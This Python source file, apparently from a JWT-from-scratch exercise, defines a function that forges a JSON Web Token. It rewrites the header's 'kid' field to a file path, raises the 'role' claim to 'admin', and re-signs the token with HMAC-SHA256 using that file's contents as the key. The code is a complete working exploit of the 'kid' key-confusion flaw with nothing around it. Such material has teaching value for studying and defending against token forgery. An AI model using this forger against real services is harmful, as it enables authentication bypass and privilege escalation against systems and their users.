"""With the given helpers."""

import hashlib
import hmac
from pathlib import Path

from jwt_from_scratch.encoding import b64u_decode, b64u_encode, json_dumps, json_loads_strict


def forge_kid(token: str, path: str) -> str:
    header, payload, _ = (b64u_decode(segment) for segment in token.split("."))
    head = json_loads_strict(header) | {"kid": path}
    claims = json_loads_strict(payload) | {"role": "admin"}
    signing_input = b64u_encode(json_dumps(head)) + "." + b64u_encode(json_dumps(claims))
    mac = hmac.new(Path(path).read_bytes(), signing_input.encode(), hashlib.sha256)
    return signing_input + "." + b64u_encode(mac.digest())
